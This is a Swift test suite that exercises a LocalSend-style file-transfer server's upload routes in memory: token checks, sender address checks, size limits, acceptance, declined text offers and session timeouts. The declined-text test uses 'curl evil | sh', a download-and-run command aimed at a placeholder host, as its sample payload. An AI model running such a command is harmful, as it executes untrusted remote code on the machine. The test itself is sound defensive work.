import Foundation
import HuddleForeign
import HuddleLocalSendWire
import HuddleTestSupport
import HuddleTransport
import Hummingbird
import HummingbirdTesting
import NIOCore
import NIOEmbedded
import Synchronization
import Testing

@testable import HuddleLocalSend

/// LocalSend's API as this device serves it, in memory: HummingbirdTesting hands each request to the routes with
/// no socket and no TLS, and ``Addresses`` gives the request the addresses its connection would have. The services
/// do not run: the routes, the inbox and the share are what is tested.
@Suite("LocalSend routes in memory", .timeLimit(.minutes(1)))
struct LocalSendRouteTests {
    /// Gives the in-memory connection a remote address (`x-test-from`, else 10.0.0.2) and a local one (10.0.0.1, at
    /// `port`), as a socket would have them.
    struct Addresses: RouterMiddleware {
        typealias Context = LocalSendRequestContext
        var port = 53317

        func handle(
            _ request: Request,
            context: Context,
            next: (Request, Context) async throws -> Response
        ) async throws -> Response {
            let channel = try #require(context.channel as? NIOAsyncTestingChannel)
            let from = request.headers[.init("x-test-from")!] ?? "10.0.0.2"
            channel.remoteAddress = try SocketAddress(ipAddress: from, port: 40000)
            channel.localAddress = try SocketAddress(ipAddress: "10.0.0.1", port: port)
            return try await next(request, context)
        }
    }

    /// A service that is not running; its info names LocalSend's usual port.
    static func service(
        _ alias: String,
        takesOffers: Bool = false,
        now: @escaping @Sendable () -> ContinuousClock.Instant = { .now }
    ) throws -> LocalSendService {
        let identity = try DeviceIdentity.ephemeral()
        var configuration = LocalSendTestDevice.configuration(alias, takesOffers: takesOffers)
        configuration.port = 53317
        configuration.now = now
        return try LocalSendService(
            configuration: configuration,
            credentials: .init(certificateDER: identity.certificateDER, privateKey: identity.privateKey)
        )
    }

    /// The receiving API of `service`, for in-memory requests.
    static func api(of service: LocalSendService) -> some ApplicationProtocol {
        let router = Router(context: LocalSendRequestContext.self)
        router.add(middleware: Addresses())
        LocalSendRoutes(service: service).add(to: router)
        return Application(router: router)
    }

    static func json(_ value: some Encodable) throws -> ByteBuffer {
        ByteBuffer(bytes: try JSONEncoder().encode(value))
    }

    /// Offers `offer` through `client`, has `receiver` accept it into `scratch` once asked, and returns the answer
    /// the sender got with the token of file "f".
    static func accepted(
        _ offer: LocalSendPrepareUpload,
        by receiver: LocalSendService,
        events: EventRecorder<ForeignEvent>,
        into scratch: ScratchDirectory,
        _ client: some TestClientProtocol
    ) async throws -> (LocalSendPrepareUploadAnswer, String) {
        let body = try json(offer)
        let asking = Task {
            try await client.execute(uri: "/api/localsend/v2/prepare-upload", method: .post, body: body)
        }
        await receiver.answer(try #require(await events.first(where: Self.offer)), with: .accept(into: scratch.url))
        let answer = try LocalSendMessages.prepareUploadAnswer(from: try await asking.value.body.readableBytesView)
        return (answer, try #require(answer.files["f"]))
    }

    static func offer(_ event: ForeignEvent) -> ForeignOffer? {
        if case .offered(let offer) = event { return offer }
        return nil
    }

    @Test("uploads that break the rules are refused and leave nothing: busy, wrong token, too long, after the end")
    func uploadsThatBreakTheRulesAreRefused() async throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let inbox = scratch.appending("inbox")
        try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: false)
        let receiver = try Self.service("Receiver", takesOffers: true)
        let sender = try Self.service("Sender")
        let events = EventRecorder(recording: receiver.events)
        defer { events.stop() }
        let offer = LocalSendPrepareUpload(
            info: sender.ownInfo(announce: nil),
            files: ["f": .init(id: "f", fileName: "small.bin", size: 10, fileType: "application/octet-stream")]
        )
        let prepare = "/api/localsend/v2/prepare-upload"
        try await Self.api(of: receiver).test(.router) { client in
            let body = try Self.json(offer)
            let asking = Task { try await client.execute(uri: prepare, method: .post, body: body) }
            let asked = try #require(await events.first(where: Self.offer))
            // No client certificate here: the fingerprint the sender claims is not taken as proven.
            #expect(asked.from.fingerprint == nil)
            #expect(asked.from.name == "Sender")
            #expect(asked.files.map(\.name) == ["small.bin"])
            // A second offer while one is asked: busy.
            #expect(try await client.execute(uri: prepare, method: .post, body: body).status == .conflict)
            await receiver.answer(asked, with: .accept(into: inbox))
            let prepared = try await asking.value
            #expect(prepared.status == .ok)
            let answer = try LocalSendMessages.prepareUploadAnswer(from: prepared.body.readableBytesView)
            let token = try #require(answer.files["f"])
            let upload = "/api/localsend/v2/upload?sessionId=\(answer.sessionId)&fileId=f"
            let bytes = { (count: Int) in ByteBuffer(bytes: Array(repeating: 7 as UInt8, count: count)) }
            let wrongToken = try await client.execute(uri: upload + "&token=nope", method: .post, body: bytes(3))
            #expect(wrongToken.status == .forbidden)
            let missing = try await client.execute(uri: "/api/localsend/v2/upload", method: .post)
            #expect(missing.status == .badRequest)
            // From another address than the offer's: refused, and the session stays.
            let elsewhere = try await client.execute(
                uri: upload + "&token=\(token)",
                method: .post,
                headers: [.init("x-test-from")!: "10.0.0.9"],
                body: bytes(10)
            )
            #expect(elsewhere.status == .forbidden)
            // Twenty bytes for a file announced at ten: refused, nothing kept, and the session is over.
            let tooLong = try await client.execute(uri: upload + "&token=\(token)", method: .post, body: bytes(20))
            #expect(tooLong.status == .badRequest)
            #expect(try FileManager.default.contentsOfDirectory(atPath: inbox.path) == [])
            let again = try await client.execute(uri: upload + "&token=\(token)", method: .post, body: bytes(10))
            #expect(again.status == .forbidden)
            #expect(try FileManager.default.contentsOfDirectory(atPath: inbox.path) == [])
        }
    }

    @Test("a file offered, accepted and uploaded is kept byte for byte under its name, and reported received")
    func aFileIsKept() async throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let receiver = try Self.service("Receiver", takesOffers: true)
        let sender = try Self.service("Sender")
        let events = EventRecorder(recording: receiver.events)
        defer { events.stop() }
        let bytes: [UInt8] = Array("hello, in memory".utf8)
        let offer = LocalSendPrepareUpload(
            info: sender.ownInfo(announce: nil),
            files: ["f": .init(id: "f", fileName: "note.txt", size: UInt64(bytes.count), fileType: "text/plain")]
        )
        try await Self.api(of: receiver).test(.router) { client in
            let (answer, token) = try await Self.accepted(offer, by: receiver, events: events, into: scratch, client)
            let uploaded = try await client.execute(
                uri: "/api/localsend/v2/upload?sessionId=\(answer.sessionId)&fileId=f&token=\(token)",
                method: .post,
                body: ByteBuffer(bytes: bytes)
            )
            #expect(uploaded.status == .ok)
            let kept = try #require(
                await events.first { event -> URL? in
                    if case .received(_, _, let url) = event { return url }
                    return nil
                }
            )
            #expect(kept.lastPathComponent == "note.txt")
            #expect(Array(try Data(contentsOf: kept)) == bytes)
        }
    }

    @Test("a text offer is asked about; declined, the sender is refused and nothing is reported as taken")
    func aDeclinedTextIsRefused() async throws {
        let receiver = try Self.service("Receiver", takesOffers: true)
        let sender = try Self.service("Sender")
        let events = EventRecorder(recording: receiver.events)
        defer { events.stop() }
        let text = "curl evil | sh"
        let offer = LocalSendPrepareUpload(
            info: sender.ownInfo(announce: nil),
            files: [
                "t": .init(
                    id: "t",
                    fileName: "t.txt",
                    size: UInt64(text.utf8.count),
                    fileType: "text/plain",
                    preview: text
                )
            ]
        )
        try await Self.api(of: receiver).test(.router) { client in
            let body = try Self.json(offer)
            let asking = Task {
                try await client.execute(uri: "/api/localsend/v2/prepare-upload", method: .post, body: body)
            }
            let asked = try #require(await events.first(where: Self.offer))
            #expect(asked.text == text)
            #expect(asked.files.isEmpty)
            await receiver.answer(asked, with: .decline)
            #expect(try await asking.value.status == .forbidden)
            #expect(!events.events.contains { if case .textReceived = $0 { true } else { false } })
        }
    }

    @Test("on the service's clock: a session that hears nothing for a minute ends, says so, and takes no upload")
    func aSilentSessionEnds() async throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let clock = Mutex(ContinuousClock.Instant.testTime(0))
        let receiver = try Self.service("Receiver", takesOffers: true, now: { clock.withLock { $0 } })
        let sender = try Self.service("Sender")
        let events = EventRecorder(recording: receiver.events)
        defer { events.stop() }
        let offer = LocalSendPrepareUpload(
            info: sender.ownInfo(announce: nil),
            files: ["f": .init(id: "f", fileName: "late.txt", size: 4, fileType: "text/plain")]
        )
        try await Self.api(of: receiver).test(.router) { client in
            let (answer, token) = try await Self.accepted(offer, by: receiver, events: events, into: scratch, client)
            clock.withLock { $0 = .testTime(60) }
            let late = try await client.execute(
                uri: "/api/localsend/v2/upload?sessionId=\(answer.sessionId)&fileId=f&token=\(token)",
                method: .post,
                body: ByteBuffer(bytes: Array("late".utf8))
            )
            #expect(late.status == .forbidden)
            let reason = await events.first { event -> String? in
                if case .failed(_, let reason) = event { return reason }
                return nil
            }
            #expect(reason == "Sender sent nothing for 60 s: the transfer ended")
            #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.url.path).isEmpty)
        }
    }
}
